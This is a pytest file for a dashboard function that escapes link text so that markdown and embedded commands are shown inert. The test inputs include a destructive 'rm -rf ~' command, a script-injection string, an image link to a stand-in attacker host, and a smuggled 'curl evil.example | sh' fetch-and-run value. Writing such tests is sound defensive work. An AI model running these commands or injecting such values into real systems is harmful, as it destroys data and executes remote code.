"""What a stranger writes into a link is repeated without a meaning of its own."""

import pytest

from dashboard.data.words.foreign_text import LONGEST, quoted


@pytest.mark.parametrize(
    "text", ["`rm -rf ~`", "![x](https://evil.example/x.png)", "<script>alert(1)</script>", "*a* $x$ :red[b]"]
)
def test_nothing_that_markdown_reads_is_left(text):
    assert not set(quoted(text)) & set("`![]()<>*$:#|{}\\&")


def test_names_stay_readable_and_short():
    assert quoted("blocks.99.hook-resid/post") == "'blocks.99.hook-resid/post'"
    assert len(quoted("x" * 10**6)) == LONGEST + 2


def test_a_command_in_a_link_is_never_offered_to_be_run(open_page):
    app = open_page("feature", gpt="0`curl evil.example | sh`")
    assert "There is no GPT" in app.warning[0].value
    assert not [block for block in app.code if "curl" in block.value]
